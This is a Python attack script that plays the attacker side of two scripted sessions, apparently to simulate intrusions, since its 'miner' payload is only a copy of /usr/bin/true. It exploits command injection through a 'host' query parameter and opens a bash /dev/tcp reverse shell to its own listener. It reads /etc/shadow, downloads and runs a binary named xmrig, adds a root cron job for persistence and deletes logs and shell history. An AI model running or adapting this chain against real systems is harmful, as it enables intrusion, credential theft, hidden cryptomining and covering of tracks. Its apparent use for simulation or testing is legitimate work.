"""attacker.py web|db HOST PORT OWN_ADDRESS: the other side of the sessions."""

import http.server
import socket
import sys
import threading
import time
import urllib.parse
import urllib.request

kind, host, port, own = sys.argv[1:5]


def shell_orders(orders):
    """Waits for a shell to call, and tells it what to do, line by line, as somebody would type."""
    listener = socket.create_server((own, 4444))

    def talk():
        call, _ = listener.accept()
        for order in orders:
            time.sleep(1.2)
            call.sendall(order.encode() + b"\n")
        while call.recv(4096):
            pass

    thread = threading.Thread(target=talk, daemon=True)
    thread.start()
    return thread


def serve_files(files):
    """Serves some bytes by name."""

    class Server(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            body = files[self.path]
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *arguments):
            pass

    threading.Thread(
        target=http.server.HTTPServer((own, 80), Server).serve_forever, daemon=True
    ).start()


def inject(command):
    query = urllib.parse.urlencode({"host": "localhost; " + command})
    try:
        urllib.request.urlopen("http://%s:%s/status?%s" % (host, port, query), timeout=20).read()
    except OSError:
        pass


if kind == "web":
    shell = shell_orders(
        [
            "id",
            "cat /etc/passwd",
            "cat /etc/shadow",
            "cp /usr/bin/true /dev/shm/.cache && /dev/shm/.cache",
            "exit",
        ]
    )
    inject("id; uname -a")
    time.sleep(2)
    inject("bash -c 'bash -i >& /dev/tcp/%s/4444 0>&1'" % own)
    shell.join(15)
else:
    with open("/usr/bin/true", "rb") as program:
        serve_files({"/x": program.read()})
    query = socket.create_connection((host, int(port)))
    for command in [
        "id",
        "mkdir -p /tmp/.x && curl -s -o /tmp/.x/xmrig http://%s/x && chmod +x /tmp/.x/xmrig" % own,
        "/tmp/.x/xmrig -o stratum+tcp://%s:3333 --donate-level 1" % own,
        "echo '* * * * * root /tmp/.x/xmrig' > /etc/cron.d/sync",
        "cat /etc/shadow > /tmp/.x/s",
        "rm -rf /var/log/db.log /root/.bash_history",
    ]:
        time.sleep(1.5)
        query.sendall(b"RUN " + command.encode() + b"\n")
        query.recv(4096)
    query.close()
